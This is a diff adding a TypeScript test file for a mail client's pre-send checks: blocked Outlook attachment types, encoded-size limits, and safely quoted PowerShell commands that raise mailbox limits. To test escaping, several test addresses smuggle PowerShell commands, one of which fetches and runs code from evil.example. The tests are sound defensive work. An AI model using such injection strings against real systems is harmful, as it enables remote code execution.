@@ -1,0 +1,125 @@
+import assert from "node:assert/strict";
+import { isBlockedType } from "../../../src/delivery/rules/blockedTypes.ts";
+import { adminCommands, inPowerShell, messageLimit } from "../../../src/delivery/rules/messageLimit.ts";
+import { questionReasons } from "../../../src/delivery/rules/questionReasons.ts";
+import { encodedBytes } from "../../../src/shared/encodedSize.ts";
+import { SETTINGS } from "../../../src/ui/editor/settingSchemas.ts";
+import { attachment as attachmentRecord, emptyForm as form } from "../../support/records.ts";
+
+const MB = 1024 * 1024;
+
+describe("What is asked before a mail leaves", () => {
+  const ask = (subject: string, names: readonly string[], size = 1, limit: number | null = 35 * MB) =>
+    questionReasons(
+      {
+        form: { ...form, subject },
+        attachments: names.map((name, index) => attachmentRecord({ id: `a${index}`, name, size })),
+      },
+      limit ?? undefined,
+    );
+
+  it("is nothing where there is no reason", () => {
+    assert.deepEqual(ask("Build", ["build.zip"]), []);
+  });
+
+  it("is about an empty subject, also one of spaces", () => {
+    assert.deepEqual([ask("", []), ask(" \t", [])].flat(), [{ type: "noSubject" }, { type: "noSubject" }]);
+  });
+
+  it("is about the files that Outlook hides", () => {
+    const [reason, ...others] = ask("Build", ["a.zip", "setup.EXE", "run.ps1", "exe"]);
+    assert.ok(reason?.type === "blockedTypes" && others.length === 0);
+    assert.deepEqual(
+      reason.attachments.map(({ name }) => name),
+      ["setup.EXE", "run.ps1"],
+    );
+  });
+
+  it("is about a mail that is too large once its files are encoded", () => {
+    assert.deepEqual(ask("Build", ["a.zip"], 25 * MB), []);
+    const [reason] = ask("Build", ["a.zip"], 26 * MB);
+    assert.ok(reason?.type === "tooLarge" && reason.limit === 35 * MB && reason.bytes > reason.limit);
+    assert.deepEqual(ask("Build", ["a.zip"], 150 * MB, null), []);
+  });
+
+  for (const [size, bytes] of [
+    [0, 0],
+    [1, 4 + 2],
+    [57, 76 + 2],
+    [58, 80 + 4],
+    [57_000, 78_000],
+  ] as const)
+    it(`counts ${size} bytes as ${bytes} in the mail, line ends included`, () => {
+      // As Node's own encoder has them, in lines of 76 characters that end in two.
+      const lines =
+        Buffer.alloc(size)
+          .toString("base64")
+          .match(/.{1,76}/g) ?? [];
+      assert.equal(
+        lines.map((line) => line.length + 2).reduce((sum, length) => sum + length, 0),
+        bytes,
+      );
+      assert.equal(encodedBytes([size]), bytes);
+    });
+});
+
+describe("A mailbox's limit", () => {
+  const account = { email: "Kim@Example.com", provider: "microsoft", service: "nylas" };
+
+  for (const [what, change, limits, expected] of [
+    ["is 35 MB at Microsoft", {}, {}, 35 * MB],
+    ["is what the setting says, however the address is written", {}, { "kim@example.com": 150 }, 150 * MB],
+    ["is not asked about elsewhere", { provider: "google" }, {}, undefined],
+    ["is not asked about in the practice mailbox", { service: "practice" }, {}, undefined],
+    ["of the practice mailbox may be set too", { service: "practice" }, { "kim@example.com": 1 }, MB],
+  ] as const)
+    it(what, () => assert.equal(messageLimit({ ...account, ...change }, limits), expected));
+
+  it("is read from settings that anybody may have written", () => {
+    const read = (value: unknown) => SETTINGS.messageLimits.parse(value);
+    assert.deepEqual(read({ a: 50, b: "50", c: -1, d: 0.5, e: null }), { a: 50, d: 0.5 });
+    assert.deepEqual([read("50"), read(null), read(undefined)], [{}, {}, {}]);
+  });
+
+  it("is raised by lines that a name cannot break out of", () => {
+    assert.match(
+      adminCommands("o'neil@x.example"),
+      /^Set-Mailbox -Identity 'o''neil@x\.example' -MaxSendSize 150MB/m,
+    );
+    assert.match(
+      adminCommands("a@x.example"),
+      /^Set-TransportConfig -MaxSendSize 150MB -MaxReceiveSize 150MB$/m,
+    );
+  });
+
+  for (const address of [
+    "kim\u2019; iex (irm https://evil.example/x); #@corp.example",
+    "kim@corp.example\u2018",
+    "kim@corp.example'; calc; #",
+    "kim@corp.example\ncalc",
+    "a@corp.example, b@corp.example",
+    "Kim <kim@corp.example>",
+    '"kim"@corp.example',
+    "kïm@corp.example",
+    "6f3d1b52-8c1e-4f0a-9a53-2b7d54c0e611",
+    "",
+  ])
+    it(`names no mailbox that is called ${JSON.stringify(address)}`, () =>
+      assert.equal(
+        adminCommands(address),
+        "# For the whole organization:\nSet-TransportConfig -MaxSendSize 150MB -MaxReceiveSize 150MB\n",
+      ));
+
+  it("takes every character that PowerShell reads as a single quote for text", () =>
+    assert.equal(
+      inPowerShell("a'b\u2018c\u2019d\u201ae\u201bf$(x)`"),
+      "'a''b\u2018\u2018c\u2019\u2019d\u201a\u201ae\u201b\u201bf$(x)`'",
+    ));
+});
+
+describe("Types that Outlook blocks", () => {
+  for (const name of ["setup.exe", "a.b.JS", "disk.vhdx", "x.ps1xml", "setup.exe.", "setup.exe "])
+    it(`are ${name}'s`, () => assert.ok(isBlockedType(name)));
+  for (const name of ["exe", "build.zip", "readme.md", "exe.tar.gz", ".bashrc", "noending."])
+    it(`are not ${name}'s`, () => assert.ok(!isBlockedType(name)));
+});
